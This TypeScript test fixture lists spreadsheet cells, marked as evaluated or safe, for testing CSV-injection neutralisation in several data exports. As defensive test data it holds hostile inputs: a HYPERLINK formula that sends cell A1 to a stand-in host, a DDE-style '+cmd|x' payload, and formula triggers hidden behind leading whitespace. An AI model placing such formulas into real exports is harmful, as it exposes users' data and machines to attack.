// One table for CSV-injection neutralisation (OWASP's triggers, also after white space), run against the domain
// writer and every export that writes CSV: the campaign proof, its skipped rows, the opt-out list.

export const CSV_FORMULA_CASES: readonly { cell: string; evaluated: boolean }[] = [
  { cell: '=HYPERLINK("http://x.example/?q="&A1,"Click")', evaluated: true },
  { cell: '+6281234567890', evaluated: true },
  { cell: '-2+3', evaluated: true },
  { cell: '@SUM(A1:A9)', evaluated: true },
  { cell: '\t=1+1', evaluated: true },
  { cell: '\r=1+1', evaluated: true },
  { cell: '  =1+1', evaluated: true },
  { cell: ' \u00a0+cmd|x', evaluated: true },
  { cell: '\n@x', evaluated: true },
  { cell: 'Budi', evaluated: false },
  { cell: '081234567890', evaluated: false },
  { cell: 'a=b', evaluated: false },
  { cell: 'x-1', evaluated: false },
  { cell: '', evaluated: false },
  { cell: '  Budi', evaluated: false }
]

/** The triggers alone: what every export's test writes into each of its text columns. */
export const CSV_FORMULA_TRIGGERS = CSV_FORMULA_CASES.filter((c) => c.evaluated).map((c) => c.cell)
